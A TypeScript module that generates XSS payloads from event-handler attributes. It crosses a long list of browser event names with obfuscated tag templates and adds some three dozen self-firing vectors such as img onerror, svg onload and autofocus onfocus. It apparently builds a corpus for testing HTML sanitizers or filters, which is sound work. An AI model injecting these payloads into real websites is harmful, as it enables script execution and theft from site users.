import { crossed, type Family, type Write } from './family';

/** Names of events out of the HTML, SVG, Pointer Events, CSS and fullscreen specifications. */
const EVENTS =
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload blur cancel canplay canplaythrough change click close command contentvisibilityautostatechange contextlost contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied ended error focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange reset resize scroll scrollend search securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled storage submit suspend timeupdate toggle touchend touchmove touchstart transitionend transitionstart unload volumechange waiting wheel'.split(
    ' ',
  );

const CARRIERS: readonly ((event: string, run: string) => string)[] = [
  (event, run) => `<div tabindex=0 on${event}="${run}">text</div>`,
  (event, run) => `<b ON${event.toUpperCase()}=${run.replaceAll(' ', '/**/')}>text</b>`,
  (event, run) => `<x/on${event}\n=\n'${run.replaceAll("'", '`')}'>text`,
];

/** What needs nobody's help. */
const BY_THEMSELVES: readonly Write[] = [
  ({ run }) => `<img src=x: onerror="${run}">`,
  ({ run }) => `<img src onerror="${run}">`,
  ({ run }) => `<IMG """><img src=/ onerror="${run}">`,
  ({ run }) => `<img/src=x:/onerror="${run}">`,
  ({ run }) => `<img\u000csrc=x:\u000conerror="${run}">`,
  ({ run }) => `" onerror="${run}" src="x:`,
  ({ run }) => `<image src=x: onerror="${run}">`,
  ({ run }) => `<video src=x: onerror="${run}"></video>`,
  ({ run }) => `<video><source onerror="${run}" src=x:></video>`,
  ({ run }) => `<audio src=x: onerror="${run}"></audio>`,
  ({ run }) => `<details open ontoggle="${run}"><summary>s</summary>d</details>`,
  ({ run }) => `<input autofocus onfocus="${run}">`,
  ({ run }) => `<textarea autofocus onfocus="${run}"></textarea>`,
  ({ run }) => `<select autofocus onfocus="${run}"></select>`,
  ({ run }) => `<a href=# autofocus onfocus="${run}">text</a>`,
  ({ run }) => `<body onload="${run}">`,
  ({ run }) => `<body onpageshow="${run}">`,
  ({ run }) => `<svg onload="${run}"></svg>`,
  ({ run }) => `<svg/onload="${run}">`,
  ({ run }) => `<iframe onload="${run}"></iframe>`,
  ({ run }) => `<object data=x: onerror="${run}"></object>`,
  ({ run }) => `<embed src=/ onload="${run}">`,
  ({ run }) => `<link rel=stylesheet href=x: onerror="${run}">`,
  ({ run }) => `<style onload="${run}"></style>`,
  ({ run }) => `<script src=x: onerror="${run}"></script>`,
  ({ run }) => `<marquee onstart="${run}">text</marquee>`,
  ({ run }) => `<marquee loop=1 width=0 onfinish="${run}">text</marquee>`,
  ({ run }) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${run}">text</b>`,
  ({ run }) => `<isindex action=x: onfocus="${run}" autofocus>`,
  ({ run }) => `<keygen autofocus onfocus="${run}">`,
  ({ run }) => `<xss contenteditable autofocus onfocus="${run}">text</xss>`,
  ({ run }) => `<dialog open onclose="${run}"><form method=dialog><button>b</button></form></dialog>`,
];

export const HANDLERS: Family = {
  name: 'event handlers',
  texts: [
    ...crossed(
      EVENTS,
      CARRIERS,
      (event, carry): Write =>
        ({ run }) =>
          carry(event, run),
    ),
    ...BY_THEMSELVES,
  ],
};
